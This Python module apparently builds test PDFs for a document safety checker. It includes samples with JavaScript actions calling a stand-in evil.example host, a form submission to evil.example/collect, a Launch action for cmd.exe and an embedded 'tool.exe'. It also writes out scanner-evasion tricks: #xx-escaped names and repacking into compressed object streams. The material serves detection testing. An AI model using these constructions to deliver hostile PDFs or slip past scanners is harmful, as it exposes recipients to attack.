"""PDFs with and without active content, built with pypdf, for the safety-check tests.

Each builder adds one kind of content to a one-page document. Names are made by
the `n` argument, so the same builder writes them plainly (/JavaScript) or
#xx-escaped (/#4A#61#76...), and `in_object_stream` repacks any PDF so that every
dictionary sits inside compressed object streams, where a byte search sees nothing.
"""

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

Names = Callable[[str], NameObject]


class EscapedName(NameObject):
    """A name written with every character after the slash as #xx: /J#61... is the
    same name as /Ja... to every PDF reader (ISO 32000-1, 7.3.5)."""

    def write_to_stream(self, stream, encryption_key=None) -> None:
        stream.write(b"/" + b"".join(b"#%02X" % byte for byte in self[1:].encode()))


def plain(name: str) -> NameObject:
    return NameObject(name)


def escaped(name: str) -> NameObject:
    return EscapedName(name)


def _dict(n: Names, **entries) -> DictionaryObject:
    return DictionaryObject({n("/" + key): value for key, value in entries.items()})


def dictionary(**entries) -> DictionaryObject:
    """A dictionary with plain names as keys: dictionary(S=plain("/GoTo"))."""
    return _dict(plain, **entries)


def _stream(n: Names, data: bytes, **entries) -> StreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update({n("/" + key): value for key, value in entries.items()})
    return stream


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(50), FloatObject(50), FloatObject(250), FloatObject(80)])


def _annotate(writer: PdfWriter, annotation: DictionaryObject, n: Names) -> None:
    page = writer.pages[0]
    annotation.setdefault(n("/Type"), n("/Annot"))
    annotation.setdefault(n("/Rect"), _rect())
    annots = page.get("/Annots")
    if annots is None:
        annots = ArrayObject()
        page[NameObject("/Annots")] = annots
    annots.append(writer._add_object(annotation))


def _link(writer: PdfWriter, action: DictionaryObject, n: Names) -> None:
    _annotate(writer, _dict(n, Subtype=n("/Link"), A=action), n)


def _javascript(n: Names) -> DictionaryObject:
    return _dict(n, S=n("/JavaScript"), JS=TextStringObject("app.launchURL('https://evil.example/', true);"))


def _filespec(writer: PdfWriter, n: Names) -> DictionaryObject:
    payload = writer._add_object(_stream(n, b"MZ not really a program", Type=n("/EmbeddedFile")))
    return _dict(n, Type=n("/Filespec"), F=TextStringObject("tool.exe"), EF=_dict(n, F=payload))


# --- One builder per kind of active content ---------------------------------------------


def js_open_action(writer, n):
    writer.root_object[n("/OpenAction")] = writer._add_object(_javascript(n))


def js_names_tree(writer, n):
    tree = _dict(n, Names=ArrayObject([TextStringObject("init"), writer._add_object(_javascript(n))]))
    writer.root_object[n("/Names")] = _dict(n, JavaScript=tree)


def js_link(writer, n):
    _link(writer, _javascript(n), n)


def aa_document(writer, n):
    writer.root_object[n("/AA")] = _dict(n, WC=_javascript(n))  # "will close"


def aa_page(writer, n):
    writer.pages[0][n("/AA")] = _dict(n, O=_javascript(n))  # page opened


def aa_annotation(writer, n):
    _annotate(writer, _dict(n, Subtype=n("/Link"), AA=_dict(n, E=_javascript(n))), n)  # mouse enters


def aa_form_field(writer, n):
    field = _dict(n, FT=n("/Tx"), T=TextStringObject("name"), Subtype=n("/Widget"), AA=_dict(n, K=_javascript(n)))
    _annotate(writer, field, n)
    writer.root_object[n("/AcroForm")] = _dict(n, Fields=ArrayObject([writer.pages[0]["/Annots"][-1]]))


def aa_goto_only(writer, n):
    """Additional actions whose only action moves to page 1: refused all the same."""
    goto = _dict(n, S=n("/GoTo"), D=ArrayObject([writer.pages[0].indirect_reference, n("/Fit")]))
    writer.pages[0][n("/AA")] = _dict(n, O=goto)


def launch(writer, n):
    _link(writer, _dict(n, S=n("/Launch"), F=TextStringObject("C:\\Windows\\System32\\cmd.exe")), n)


def submit_form(writer, n):
    url = _dict(n, FS=n("/URL"), F=TextStringObject("https://evil.example/collect"))
    _link(writer, _dict(n, S=n("/SubmitForm"), F=url), n)


def import_data(writer, n):
    _link(writer, _dict(n, S=n("/ImportData"), F=TextStringObject("answers.fdf")), n)


def goto_remote(writer, n):
    action = _dict(n, S=n("/GoToR"), F=TextStringObject("\\\\evil.example\\share\\x.pdf"))
    action[n("/D")] = ArrayObject([NumberObject(0), n("/Fit")])
    _link(writer, action, n)


def goto_embedded(writer, n):
    target = _dict(n, R=n("/C"), N=TextStringObject("inner.pdf"))
    _link(writer, _dict(n, S=n("/GoToE"), T=target, D=ArrayObject([NumberObject(0), n("/Fit")])), n)


def embedded_files(writer, n):
    tree = _dict(n, Names=ArrayObject([TextStringObject("tool.exe"), writer._add_object(_filespec(writer, n))]))
    writer.root_object[n("/Names")] = _dict(n, EmbeddedFiles=tree)


def file_attachment_annotation(writer, n):
    _annotate(writer, _dict(n, Subtype=n("/FileAttachment"), FS=_filespec(writer, n)), n)


def xfa_form(writer, n):
    xfa = writer._add_object(_stream(n, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    writer.root_object[n("/AcroForm")] = _dict(n, Fields=ArrayObject(), XFA=xfa)


def rich_media(writer, n):
    content = _dict(n, Assets=_dict(n, Names=ArrayObject()), Configurations=ArrayObject())
    _annotate(writer, _dict(n, Subtype=n("/RichMedia"), RichMediaContent=content), n)


def three_d(writer, n):
    model = writer._add_object(_stream(n, b"U3D\x00", Type=n("/3D"), Subtype=n("/U3D")))
    _annotate(writer, _dict(n, Subtype=n("/3D"), **{"3DD": model}), n)


def screen_rendition(writer, n):
    rendition = _dict(n, S=n("/MR"), N=TextStringObject("intro video"))
    _annotate(writer, _dict(n, Subtype=n("/Screen"), A=_dict(n, S=n("/Rendition"), OP=NumberObject(0), R=rendition)), n)


def uri_open_action(writer, n):
    """Opening the file would open a web page unasked: refused, though a /URI link is not."""
    writer.root_object[n("/OpenAction")] = _dict(n, S=n("/URI"), URI=TextStringObject("https://evil.example/"))


# --- Harmless features that ordinary PDFs carry -----------------------------------------


def open_at_first_page(writer, n):
    writer.open_destination = writer.pages[0]  # /OpenAction [page /Fit]


def open_with_goto_action(writer, n):
    destination = ArrayObject([writer.pages[0].indirect_reference, n("/XYZ"), NumberObject(0), NumberObject(792)])
    writer.root_object[n("/OpenAction")] = _dict(n, S=n("/GoTo"), D=destination)


def links_and_bookmarks(writer, n):
    _link(writer, _dict(n, S=n("/URI"), URI=TextStringObject("https://www.diana.nato.int/")), n)
    writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Problem", page_number=0)
    solution = writer.add_outline_item(title="Solution", page_number=1)
    writer.add_outline_item(title="Prototype", page_number=2, parent=solution)


PDFA_XMP = b"""<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">
<pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></rdf:Description>
</rdf:RDF></x:xmpmeta><?xpacket end="w"?>"""


def pdf_a(writer, n):
    """What a PDF/A-2b export carries beyond the pages: XMP metadata naming the
    conformance, an output intent with an ICC profile, marked content, page labels
    (whose /S is a numbering style, not an action) and a destination on opening."""
    metadata = _stream(n, PDFA_XMP, Type=n("/Metadata"), Subtype=n("/XML"))
    profile = _stream(n, b"\x00" * 128, N=NumberObject(3))  # stands in for an sRGB ICC profile
    intent = _dict(
        n,
        Type=n("/OutputIntent"),
        S=n("/GTS_PDFA1"),
        OutputConditionIdentifier=TextStringObject("sRGB IEC61966-2.1"),
        DestOutputProfile=writer._add_object(profile),
    )
    writer.root_object[n("/Metadata")] = writer._add_object(metadata)
    writer.root_object[n("/OutputIntents")] = ArrayObject([intent])
    writer.root_object[n("/MarkInfo")] = _dict(n, Marked=BooleanObject(True))
    labels = ArrayObject([NumberObject(0), _dict(n, S=n("/D"))])
    writer.root_object[n("/PageLabels")] = _dict(n, Nums=labels)
    writer.open_destination = writer.pages[0]


def build(builder: Callable | None = None, *, names: Names = plain, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if builder is not None:
        builder(writer, names)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def in_object_stream(data: bytes, *, per_stream: int = 100) -> bytes:
    """The same document, with every object that is not a stream packed into
    Flate-compressed object streams of `per_stream` objects (qpdf's default) and a
    cross-reference stream (PDF 1.5) to find them: the layout Acrobat and most
    modern producers write. pypdf 7 writes only classic cross-reference tables, so
    this is done here by hand."""
    writer = PdfWriter(clone_from=io.BytesIO(data))
    objects = {number: obj for number, obj in enumerate(writer._objects, start=1) if obj is not None}
    next_number = len(writer._objects) + 1

    def serialise(obj) -> bytes:
        buffer = io.BytesIO()
        obj.write_to_stream(buffer)
        return buffer.getvalue()

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    located: dict[int, tuple[int, int, int]] = {}  # number -> (type, field 2, field 3)
    packable: list[int] = []
    for number, obj in objects.items():
        if isinstance(obj, StreamObject):  # streams cannot live in an object stream
            located[number] = (1, len(out), 0)
            out += b"%d 0 obj\n" % number + serialise(obj) + b"\nendobj\n"
        else:
            packable.append(number)
    for start in range(0, len(packable), per_stream):
        stream_number, next_number = next_number, next_number + 1
        header, body = bytearray(), bytearray()
        for index, number in enumerate(packable[start : start + per_stream]):
            located[number] = (2, stream_number, index)
            header += b"%d %d " % (number, len(body))
            body += serialise(objects[number]) + b"\n"
        compressed = zlib.compress(bytes(header + body))
        located[stream_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream_number, len(packable[start : start + per_stream]), len(header), len(compressed))
            + compressed
            + b"\nendstream\nendobj\n"
        )
    xref_number = next_number
    located[xref_number] = (1, len(out), 0)
    size = xref_number + 1
    rows = b"".join(
        bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(2, "big")
        for kind, field2, field3 in (located.get(number, (0, 0, 65535)) for number in range(size))
    )
    root = writer._root_object.indirect_reference.idnum
    xref_at = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n"
        % (xref_number, size, root, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)
